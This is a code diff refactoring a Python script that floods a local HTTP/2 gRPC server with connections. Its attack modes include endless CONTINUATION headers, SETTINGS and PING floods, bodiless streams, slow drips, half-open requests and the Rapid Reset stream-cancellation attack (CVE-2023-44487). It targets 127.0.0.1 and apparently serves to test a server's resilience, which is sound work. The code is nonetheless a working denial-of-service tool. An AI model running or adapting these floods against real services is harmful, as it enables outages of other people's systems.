@@ -15,7 +15,7 @@ import ssl
 import struct
 import time
 from collections import Counter
-from collections.abc import AsyncIterator, Awaitable, Callable, Iterator
+from collections.abc import Awaitable, Callable
 
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
@@ -35,27 +35,19 @@ def frame(kind: int, flags: int, stream: int, content: bytes = b"") -> bytes:
 
 def text(value: bytes) -> bytes:
     """A string of HPACK without Huffman coding."""
-    return bytes((len(value),)) + value if len(value) < 127 else b"\x7f" + rest_of(len(value) - 127) + value
-
-
-def rest_of(number: int) -> bytes:
-    out = bytearray()
-    while number > 0x7F:
-        out.append(number & 0x7F | 0x80)
-        number >>= 7
-    return bytes([*out, number])
+    if len(value) < 127:
+        return bytes((len(value),)) + value
+    length, rest = bytearray(), len(value) - 127
+    while rest > 0x7F:
+        length.append(rest & 0x7F | 0x80)
+        rest >>= 7
+    return bytes((0x7F, *length, rest)) + value
 
 
 def headers(method: bytes, *more: tuple[bytes, bytes]) -> bytes:
     """The header block of a gRPC call."""
-    usual = (
-        (b":method", b"POST"),
-        (b":scheme", b"https"),
-        (b":path", method),
-        (b":authority", b"127.0.0.1"),
-        (b"content-type", b"application/grpc"),
-        (b"te", b"trailers"),
-    )
+    usual = ((b":method", b"POST"), (b":scheme", b"https"), (b":path", method), (b":authority", b"127.0.0.1"))
+    usual += ((b"content-type", b"application/grpc"), (b"te", b"trailers"))
     return b"".join(b"\x00" + text(name) + text(value) for name, value in (*usual, *more))
 
 
@@ -149,48 +141,39 @@ async def _drip(wire: Wire) -> None:
         await asyncio.sleep(0.2)
 
 
-async def _streams(wire: Wire) -> None:
-    """A hundred calls at a time whose bodies never come."""
-    while not wire.writer.is_closing():
-        for _ in range(100):
-            wire.call(METHODS[0])
-        await wire.writer.drain()
-        await asyncio.sleep(1)
+Work = Callable[[Wire], Awaitable[None]]
+
+
+def again(frames: Callable[[Wire], bytes], pause_s: float = 0.2) -> Work:
+    """Write these frames again and again."""
+
+    async def work(wire: Wire) -> None:
+        while not wire.writer.is_closing():
+            wire.writer.write(frames(wire))
+            await wire.writer.drain()
+            await asyncio.sleep(pause_s)
+
+    return work
 
 
 async def _headers(wire: Wire) -> None:
     """Metadata without an end."""
     wire.call(METHODS[0], flags=0)
     filler = b"".join(b"\x00" + text(b"x-%d" % number) + text(bytes(1000)) for number in range(15))
-    while not wire.writer.is_closing():
-        wire.writer.write(frame(CONTINUATION, 0, 1, filler))
-        await wire.writer.drain()
-        await asyncio.sleep(0.05)
+    await again(lambda wire: frame(CONTINUATION, 0, 1, filler), 0.05)(wire)
 
 
-async def _settings(wire: Wire) -> None:
-    """Settings that each ask for an answer."""
-    while not wire.writer.is_closing():
-        wire.writer.write(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535)) * 50)
-        await wire.writer.drain()
-        await asyncio.sleep(0.2)
+def _calls_without_bodies(wire: Wire) -> bytes:
+    for _ in range(100):
+        wire.call(METHODS[0])
+    return b""
 
 
-async def _pings(wire: Wire) -> None:
-    """Pings that each ask for an answer."""
-    while not wire.writer.is_closing():
-        wire.writer.write(frame(PING, 0, 0, bytes(8)) * 50)
-        await wire.writer.drain()
-        await asyncio.sleep(0.2)
-
-
-async def _resets(wire: Wire) -> None:
-    """Calls that are taken back as soon as they are begun (CVE-2023-44487)."""
-    while not wire.writer.is_closing():
-        for _ in range(50):
-            wire.writer.write(frame(RST_STREAM, 0, wire.call(METHODS[0]), struct.pack(">I", 8)))
-        await wire.writer.drain()
-        await asyncio.sleep(0.2)
+def _calls_taken_back(wire: Wire) -> bytes:
+    """Take calls back as soon as they are begun (CVE-2023-44487)."""
+    for _ in range(50):
+        wire.writer.write(frame(RST_STREAM, 0, wire.call(METHODS[0]), struct.pack(">I", 8)))
+    return b""
 
 
 async def _calls(wire: Wire) -> None:
@@ -201,19 +184,16 @@ async def _calls(wire: Wire) -> None:
         await asyncio.sleep(0.05)
 
 
-async def _nothing(wire: Wire) -> None:
-    await asyncio.sleep(1e6)
-
-
-OVER_HTTP: dict[str, Callable[[Wire], Awaitable[None]]] = {
+OVER_HTTP: dict[str, Work] = {
     "half": _half,
     "drip": _drip,
-    "preface": _nothing,
-    "streams": _streams,
+    "preface": lambda wire: asyncio.sleep(1e6),
+    "streams": again(_calls_without_bodies, 1.0),
     "headers": _headers,
-    "settings": _settings,
-    "pings": _pings,
-    "resets": _resets,
+    # Settings and pings each ask for an answer.
+    "settings": again(lambda wire: frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535)) * 50),
+    "pings": again(lambda wire: frame(PING, 0, 0, bytes(8)) * 50),
+    "resets": again(_calls_taken_back),
     "calls": _calls,
 }
 KINDS = ("half", "silent", "half", "hello", "half", "shaken", "drip", "preface", "half", "streams", "half", "headers")
@@ -229,7 +209,7 @@ class Flood:
         self._tls = ssl.create_default_context()
         self._tls.check_hostname, self._tls.verify_mode = False, ssl.CERT_NONE
         self._tls.set_alpn_protocols(["h2"])
-        self.opened, self.closed, self.refused = Counter[str](), Counter[str](), 0
+        self.opened, self.refused = Counter[str](), 0
         self.open = 0
         self.longest_s = dict[str, float]()
 
@@ -245,24 +225,6 @@ class Flood:
 
     async def _once(self, kind: str) -> None:
         tls = None if kind in ("silent", "hello", "request") else self._tls
-        async with self._connected(kind, tls) as (reader, writer):
-            if tls is None or kind == "request-in-tls":
-                begun = {"hello": CLIENT_HELLO, "silent": b""}
-                writer.write(begun.get(kind, HALF_REQUEST))
-                await reader.read()
-                return
-            wire = Wire(reader, writer)
-            if kind == "shaken":
-                while await reader.read(FRAME):
-                    pass
-                return
-            await wire.begin()
-            await _first_done(wire.listen(), OVER_HTTP[kind](wire))
-
-    @contextlib.asynccontextmanager
-    async def _connected(
-        self, kind: str, tls: ssl.SSLContext | None
-    ) -> AsyncIterator[tuple[asyncio.StreamReader, asyncio.StreamWriter]]:
         try:
             reader, writer = await asyncio.open_connection("127.0.0.1", self._port, ssl=tls)
         except OSError:
@@ -271,10 +233,17 @@ class Flood:
         self.opened[kind] += 1
         self.open += 1
         try:
-            yield reader, writer
+            if kind in OVER_HTTP:
+                wire = Wire(reader, writer)
+                await wire.begin()
+                await _first_done(wire.listen(), OVER_HTTP[kind](wire))
+            else:
+                beginnings = {"hello": CLIENT_HELLO, "silent": b"", "shaken": b""}
+                writer.write(beginnings.get(kind, HALF_REQUEST))
+                while await reader.read(FRAME):
+                    pass
         finally:
             self.open -= 1
-            self.closed[kind] += 1
             writer.transport.abort()
 
 
@@ -291,27 +260,20 @@ async def _first_done(*works: Awaitable[None]) -> None:
         await asyncio.gather(*tasks, return_exceptions=True)
 
 
-def delays(count: int) -> Iterator[float]:
-    """When each connection is opened first: 200 a second."""
-    yield from (number / 200 for number in range(count))
-
-
-async def flood(port: int, count: int, seconds: float, kinds: tuple[str, ...], pause_s: float) -> Flood:
-    """Attack for so many seconds."""
+async def flood(port: int, count: int, seconds: float, kinds: tuple[str, ...], pause_s: float) -> None:
+    """Attack for so many seconds, with 200 more connections each second until there are so many."""
     this = Flood(port, pause_s)
-    starts = enumerate(delays(count))
-    tasks = [asyncio.ensure_future(this.keep(kinds[number % len(kinds)], delay)) for number, delay in starts]
+    tasks = [asyncio.ensure_future(this.keep(kinds[n % len(kinds)], n / 200)) for n in range(count)]
     print("begun", flush=True)
     most, until = 0, time.monotonic() + seconds
     while time.monotonic() < until:
         await asyncio.sleep(0.1)
         most = max(most, this.open)
-    print(json.dumps({"most_open": most, "open": this.open, "opened": this.opened, "longest_s": this.longest_s,
-                      "refused": this.refused}), flush=True)  # fmt: skip
+    facts = {"most_open": most, "open": this.open, "opened": this.opened, "longest_s": this.longest_s}
+    print(json.dumps(facts | {"refused": this.refused}), flush=True)
     for task in tasks:
         task.cancel()
     await asyncio.gather(*tasks, return_exceptions=True)
-    return this
 
 
 def main() -> None:
@@ -323,9 +285,9 @@ def main() -> None:
     parser.add_argument("seconds", type=float)
     parser.add_argument("--kinds", default=",".join(KINDS))
     parser.add_argument("--pause", type=float, default=1.0)
-    given = parser.parse_args()
-    kinds = tuple(given.kinds.split(","))
-    asyncio.run(flood(given.port, given.connections, given.seconds, kinds, given.pause))
+    options = parser.parse_args()
+    kinds = tuple(options.kinds.split(","))
+    asyncio.run(flood(options.port, options.connections, options.seconds, kinds, options.pause))
 
 
 if __name__ == "__main__":
